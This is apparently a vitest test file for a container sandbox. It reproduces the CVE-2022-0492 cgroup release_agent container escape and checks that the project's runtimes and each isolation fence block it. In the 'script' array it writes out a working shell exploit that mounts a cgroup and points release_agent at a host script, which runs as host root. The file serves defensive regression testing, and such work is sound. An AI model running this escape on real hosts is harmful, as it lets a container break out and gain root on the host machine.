/**
 * An escape whose counter-proof mounts a cgroup hierarchy, and a hierarchy is the whole machine's: a container created meanwhile
 * has a cgroup in it, and one that nobody mounts keeps crun from creating any. So this file runs when no other does, after all.
 */
import { spawnSync } from "node:child_process"
import { existsSync, lstatSync, readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { openEscapeBench } from "../support/escape-bench.ts"
import { openOurs, RUNTIMES } from "../support/escape-ours.ts"
import type { AllOurs } from "../support/escape-ours.ts"
import { waitFor } from "../support/wait-for.ts"

const escape = openEscapeBench()
const { dir } = escape

let ours: AllOurs
beforeAll(async () => {
  ours = await openOurs(dir, () => {})
})
afterAll(async () => {
  await ours.close()
  escape.close()
})

describe("CVE-2022-0492, a program of the host's named as a cgroup's release agent,", () => {
  const proof = join(dir, "proof")
  const agent = join(dir, "agent")
  const hierarchy = `berth-escape-${process.pid}`
  const script = [
    `mkdir /tmp/c && mount -t cgroup -o none,name=${hierarchy} none /tmp/c 2>&1 && mkdir /tmp/c/x || exit 1`,
    `echo 1 > /tmp/c/x/notify_on_release; echo ${agent} > /tmp/c/release_agent; sh -c 'echo $$ > /tmp/c/x/cgroup.procs'`,
    "busybox rmdir /tmp/c/x; usleep 50000; busybox umount /tmp/c", // with a cgroup that is not quite gone it would stay
  ].join("\n")
  const isThere = () => readFileSync("/proc/self/cgroup", "latin1").includes(hierarchy)
  /**
   * It goes with its last mount, once no cgroup is in it: whatever was begun meanwhile has one, at the depth that it has elsewhere. A
   * process that ended holds its cgroup until the kernel's lazy read-copy-update comes round, which takes seconds on an idle
   * machine; the end of a network namespace hurries it.
   */
  function end(): boolean {
    const empty =
      "find . -mindepth 2 -name cgroup.procs -exec cat {} + | while read p; do echo $p > cgroup.procs; done; find . -mindepth 1 -depth -type d -exec rmdir {} +"
    const mounted = `mount -t cgroup -o none,name=${hierarchy} none ${dir} && cd ${dir} && (${empty}); cd /; sleep 0.1; umount ${dir}`
    if (isThere()) spawnSync("unshare", ["--mount", "--propagation=private", "--net", "sh", "-c", mounted])
    return !isThere()
  }
  beforeAll(() => writeFileSync(agent, `#!/bin/sh\necho escaped > ${proof}\n`, { mode: 0o755 }))
  afterAll(() => waitFor("the hierarchy to go", end, 60_000))

  test.each(RUNTIMES)("never runs under %s: no hierarchy can be mounted", async (runtime) => {
    const { text } = await ours.through(runtime, script)
    expect(text).toMatch(/permission denied|not permitted/i)
    expect(existsSync(proof)).toBe(false)
  })

  const FENCES = ["user namespace", "system call filter", "capability bounds", "cgroup namespace"] as const
  test.each(FENCES)("is stopped by the %s alone", async (kept) => {
    const { text } = await escape.run("crun", script, { without: FENCES.filter((fence) => fence !== kept) })
    expect(text).toMatch(/permission denied|not permitted/i)
    expect(existsSync(proof)).toBe(false)
  })

  test("runs as the host's root where all four are gone", async () => {
    await escape.run("crun", script, { without: FENCES })
    await waitFor("the agent", () => existsSync(proof))
    expect([readFileSync(proof, "utf8"), lstatSync(proof).uid]).toEqual(["escaped\n", 0])
  })
})
